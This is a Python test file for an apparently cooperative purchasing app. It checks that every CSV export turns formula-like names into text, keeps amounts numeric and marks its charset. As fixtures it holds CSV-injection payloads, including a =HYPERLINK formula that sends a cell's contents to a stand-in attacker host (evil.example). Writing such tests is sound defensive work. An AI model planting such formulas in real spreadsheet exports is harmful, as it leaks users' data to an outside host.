"""Every CSV coachat gives out, page or API, is safe to open in a spreadsheet: a product, a
member, a supplier or a person whose name could run as a formula comes out as text, amounts
stay numbers, and the file says its charset once.

The routes are read from the URL map: every address ending in `.csv`, plus the audit page's
CSV. A new CSV route fails `test_every_csv_route_is_in_the_table` until it is added below.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from purchasing.models import Member
from tests.conftest import sign_in
from tests.web.api_world import World, add_order, build_world

ROOT = Path(__file__).resolve().parents[2]
PRODUCT = "=1+1"
MEMBER = '=HYPERLINK("http://evil.example/?d="&A2;"Relevé")'
PERSON = "@SUM(A1:A9)"
NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")

# Each CSV route: who fetches it, and the names it must show (neutralised).
CSV_ROUTES = {
    "/orders/<order_id>.csv": ("lead", ("product", "supplier")),
    "/batches/<batch_id>/statements.csv": ("lead", ("product", "supplier", "member")),
    "/statements/<batch_id>/<member_id>.csv": ("member", ("product", "supplier", "member")),
    "/audit?format=csv": ("lead", ("person",)),
    "/api/v1/orders/<order_id>.csv": ("lead", ("product", "supplier")),
    "/api/v1/statements/<batch_id>.csv": ("member", ("product", "supplier", "member")),
}


# CSV files made for the accountant from the journal, asked by a form (POST) with a period:
# where a name that could run as a formula is shown to come out as text.
CSV_CHECKED_WITH_THE_BOOKS = {
    "/books/journal.csv": "tests/money/test_books.py (a member named =HYPERLINK)",
    "/books/receivables.csv": "tests/money/test_receivables.py (a member named =HYPERLINK)",
}


def csv_rules(app) -> set[str]:  # type: ignore[no-untyped-def]
    named = set()
    for rule in app.url_map.iter_rules():
        if rule.rule.endswith(".csv"):
            named.add(re.sub(r"<(?:[^<>:]+:)?([^<>:]+)>", r"<\1>", rule.rule))
    return named | {"/audit?format=csv"}


def test_every_csv_route_is_in_the_table(app):
    assert csv_rules(app) == set(CSV_ROUTES) | set(CSV_CHECKED_WITH_THE_BOOKS)


def test_only_the_one_csv_writer_writes_csv():
    writers = [
        path.relative_to(ROOT)
        for package in ("infrastructure", "suppliers", "purchasing", "money", "web", "scheduling")
        for path in (ROOT / package).rglob("*.py")
        if "csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text()
    ]
    assert writers == [Path("infrastructure/csv_file.py")]


def cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize("supplier", ["+33 Fournisseur", "-Fournisseur", "@Fournisseur"])
def test_names_that_could_run_as_formulas_come_out_as_text_in_every_csv(
    app, session, make, supplier
):
    world = build_world(session, make)
    add_order(session, world)
    world.offer.product.name = PRODUCT
    world.offer.supplier.name = supplier
    session.get(Member, world.member.member_id).name = MEMBER  # type: ignore[union-attr]
    world.lead.name = PERSON
    session.commit()
    names = {"product": PRODUCT, "supplier": supplier, "member": MEMBER, "person": PERSON}
    for named, (role, shown) in CSV_ROUTES.items():
        answer = fetch(app, world, named, role)
        assert answer.status_code == 200, named
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8", named
        rows = cells(answer.data)
        written = {cell for row in rows for cell in row}
        for kind in shown:
            assert "'" + names[kind] in written, (named, kind)
        for cell in written:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert NUMBER.match(cell), (named, cell)  # only a number may start so
            assert not NUMBER.match(cell.removeprefix("'")) or not cell.startswith("'"), cell
        if named != "/audit?format=csv":
            assert any(re.fullmatch(r"\d+,\d\d", cell) for cell in written), named


def fetch(app, world: World, named: str, role: str):  # type: ignore[no-untyped-def]
    path = (
        named.replace("<order_id>", str(world.order_id))
        .replace("<batch_id>", str(world.batch.id))
        .replace("<member_id>", str(world.member.member_id))
    )
    client = app.test_client()
    if path.startswith("/api/"):
        return client.get(path, headers=world.headers(role))
    sign_in(client, getattr(world, role))
    return client.get(path)
